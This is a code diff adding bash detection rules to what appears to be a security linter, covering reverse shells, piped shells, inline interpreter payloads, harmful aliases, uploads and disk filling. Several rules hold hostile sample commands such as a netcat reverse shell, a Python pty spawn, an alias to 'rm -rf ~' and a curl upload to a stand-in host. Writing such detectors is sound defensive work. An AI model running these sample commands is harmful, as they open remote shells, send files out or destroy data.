@@ -2,6 +2,7 @@ import type { Rule } from '../rule.ts';
 import { PERSISTENT } from './abuse.ts';
 import { CREDENTIALS, SYSTEM_PATH } from './file-system.ts';
 import { CODE, FILES, HARM, KERNEL, NET, SHELL } from './kinds.ts';
+import { HARMFUL } from './process.ts';
 
 const languages = ['bash'] as const;
 const SHELLS = '{sh,bash,dash,zsh,ksh}';
@@ -11,6 +12,9 @@ const FETCHES = { nameMatches: /^(?:curl|wget|fetch)\(\)$/ };
 const DECODES = {
   nameMatches: /^(?:base(?:32|64)|xxd|openssl|g?unzip|zcat|bunzip2|unxz|uudecode|rev|tr)\(\)$/,
 };
+/** What a program of one line in another language does that is no work on text. */
+const INLINE =
+  /\b(?:socket|pty|subprocess|os\.(?:system|exec\w*|popen|dup2)|child_process|fsockopen|TCPSocket|IO::Socket|b64decode|base64|marshal|urlopen|requests|(?:shell_)?exec)\b/;
 /** Without these the machine, or everything of a user, is gone. */
 const SYSTEM =
   /^(?:\/\*?|~\/?\*?|--no-preserve-root|\/(?:home|media|mnt|opt|root|srv|usr|var)(?:\/\*?)?|\/home\/[^/]+(?:\/\*?)?|\/(?:usr\/(?:local|share)|var\/(?:lib|log|mail|www))(?:\/\*?)?|\/(?:usr\/)?(?:bin|lib\w{0,4}|sbin)(?:\/[^/]*)?|\/(?:boot|dev|etc|sys)(?:\/.*)?)$/;
@@ -198,8 +202,9 @@ export const BASH: readonly Rule[] = [
     cwe: 506,
     message: 'what is run at every start or login is changed by {}',
     match: [
+      { call: ['>'], when: [{ arg: 0, is: [{ matches: PERSISTENT }, { shape: PERSISTENT }] }] },
       {
-        call: ['>', '{cp,mv,install,ln,tee,dd,sed,chmod,rsync,wget,curl}'],
+        call: ['{cp,mv,install,ln,tee,dd,sed,rsync,wget,curl}'],
         when: [{ arg: 'any', is: [{ matches: PERSISTENT }, { shape: PERSISTENT }] }],
       },
       { call: ['{systemctl,update-rc.d,chkconfig}'], when: [{ arg: 'any', is: { matches: /^enable$/ } }] },
@@ -220,10 +225,119 @@ export const BASH: readonly Rule[] = [
         call: ['{nc,ncat,netcat}'],
         when: [{ arg: 'any', is: { matches: /^(?:-\w*[ec]|--exec|--sh-exec)$/ } }],
       },
+      {
+        call: ['|'],
+        when: [
+          { arg: 'any', is: { nameMatches: /^(?:(?:ba|da|z|k)?sh)\(\)$/ } },
+          { arg: 'any', is: { nameMatches: /^(?:nc|ncat|netcat|socat|telnet)\(\)$/ } },
+        ],
+      },
       { call: ['socat'], when: [{ arg: 'any', is: { matches: /^(?:exec|system):/i } }] },
     ],
     bad: 'nc -e /bin/sh 10.0.0.1 4444',
     good: 'nc -z 10.0.0.1 4444',
+  },
+  {
+    id: 'bash-shell-from-input',
+    languages,
+    severity: 'medium',
+    confidence: 'medium',
+    ...SHELL,
+    category: 'code-execution',
+    cwe: 94,
+    message: '{} runs whatever its input says',
+    match: { call: [SHELLS], when: [{ arg: 0, is: ['absent', { matches: /^-[is]$/ }] }] },
+    bad: 'generate | sh',
+    good: 'generate | sh check.sh',
+  },
+  {
+    id: 'bash-inline-program',
+    languages,
+    severity: 'high',
+    confidence: 'medium',
+    ...HARM,
+    message: '{} is given a program that opens the network, starts programs or decodes others',
+    match: {
+      call: ['{python,python2,python3,perl,ruby,node,php,lua,awk,gawk}'],
+      when: [{ arg: 'any', is: [{ matches: INLINE }, { shape: INLINE }] }],
+    },
+    bad: 'python3 -c \'import socket,pty; pty.spawn("sh")\'',
+    good: "python3 -c 'print(1 + 1)'",
+  },
+  {
+    id: 'bash-harmful-text',
+    languages,
+    severity: 'critical',
+    confidence: 'medium',
+    ...HARM,
+    message: '{} keeps or hands on a command that does harm',
+    match: {
+      call: ['{alias,su,ssh,at,watch,parallel,screen,tmux,docker,kubectl,chroot}'],
+      when: [{ arg: 'any', is: [{ matches: HARMFUL }, { shape: HARMFUL }] }],
+    },
+    bad: "alias ls='rm -rf ~'",
+    good: "alias ll='ls -l'",
+  },
+  {
+    id: 'bash-trap',
+    languages,
+    severity: 'info',
+    confidence: 'high',
+    ...CODE,
+    message: '{} keeps commands in a text, which run later',
+    hides: true,
+    match: { call: ['trap'], when: [{ arg: 0, is: 'text' }] },
+    bad: "trap 'echo end' EXIT",
+    good: 'trap',
+  },
+  {
+    id: 'bash-upload',
+    languages,
+    severity: 'medium',
+    confidence: 'medium',
+    ...NET,
+    category: 'abuse',
+    cwe: 200,
+    message: '{} sends data away',
+    match: [
+      {
+        call: ['{curl,wget}'],
+        when: [
+          {
+            arg: 'any',
+            is: {
+              matches:
+                /^(?:-[a-zA-Z]{0,8}[TFd]|--(?:data|upload-file|form|post-file|post-data|json)[\w-]{0,12}(?:=.{0,80})?|@.{0,80})$/,
+            },
+          },
+        ],
+      },
+      { call: ['{nc,ncat,netcat}'], when: [{ arg: 'any', not: [{ matches: /^-\w*[lz]/ }, 'absent'] }] },
+    ],
+    bad: 'curl -T notes.txt http://x.example',
+    good: 'curl http://x.example',
+  },
+  {
+    id: 'bash-fills-disk',
+    languages,
+    severity: 'high',
+    confidence: 'medium',
+    category: 'resources',
+    cwe: 400,
+    message: '{} writes until the disk is full',
+    why: 'Nothing else can write then, the system itself included.',
+    remedy: 'Say how much is written: head -c 1M.',
+    match: [
+      { call: ['>'], when: [{ arg: 1, is: { nameMatches: /^yes\(\)$/ } }] },
+      {
+        call: ['{fallocate,truncate,head}'],
+        when: [
+          { arg: 'any', is: { matches: /^(?:-[lsc]|--(?:length|size|bytes)=)?(?:\d+[TPE]|\d{3,}G)B?$/ } },
+        ],
+      },
+    ],
+    bad: 'yes > big',
+    good: 'yes | head -c 1M > big',
   },
   {
     id: 'bash-network',
